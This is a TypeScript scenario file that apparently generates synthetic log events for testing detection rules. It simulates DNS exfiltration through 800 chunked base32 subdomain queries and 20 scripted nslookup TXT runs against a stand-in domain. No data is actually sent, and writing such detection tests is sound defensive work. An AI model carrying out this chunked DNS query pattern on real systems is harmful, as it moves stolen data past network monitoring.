// DNS exfiltration: hundreds of long, random-looking chunked subdomain queries to one domain, driven by nslookup.
import { HOUR_MS } from '../calendar.js';
import { dnsQueryDoc, processStartDoc } from '../ecs-docs.js';
import { ScenarioEvents, type ScenarioDefinition } from './scenario.js';

const BASE32 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
export const EXFIL_DOMAIN = 'cdn-telemetry-sync.net';

export const dnsExfiltration: ScenarioDefinition = {
  id: 'dns-exfil', kind: 'dns-exfiltration', core: true,
  plan(ctx, day) {
    const host = ctx.takeWorkstation();
    const out = new ScenarioEvents();
    const start = ctx.dayStart(day) + 9 * HOUR_MS;
    const queries = 800;
    const batches = 20;
    for (let b = 0; b < batches; b++) {
      const ms = start + b * 3 * 60_000;
      // Each batch is one scripted nslookup run; the tool then issues many queries.
      out.add('process', ms, processStartDoc(ms, host, {
        name: 'nslookup.exe', executable: 'C:\\Windows\\System32\\nslookup.exe',
        args: ['nslookup.exe', '-querytype=TXT', `${b * (queries / batches)}-${ctx.rng.token(32, BASE32)}.${EXFIL_DOMAIN}`], parentName: 'cmd.exe',
      }, 9000 + b));
    }
    for (let i = 0; i < queries; i++) {
      const ms = start + Math.floor((i * HOUR_MS) / queries);
      const name = `${i}-${ctx.rng.token(ctx.rng.int(40, 60), BASE32)}.${EXFIL_DOMAIN}`;
      out.add('dns', ms, dnsQueryDoc(ms, host, 'nslookup.exe', name));
    }
    return out.label({
      id: this.id, kind: this.kind, core: this.core,
      description: `${host.name} sends 800 chunked base32 subdomain queries to ${EXFIL_DOMAIN} within an hour, through 20 nslookup runs`,
      entity: { 'host.name': host.name, 'process.name': 'nslookup.exe' },
      expect: ['Potential DNS Exfiltration via Excessive Chunked Queries', 'DNS Exfiltration Using Nslookup App'],
    });
  },
};
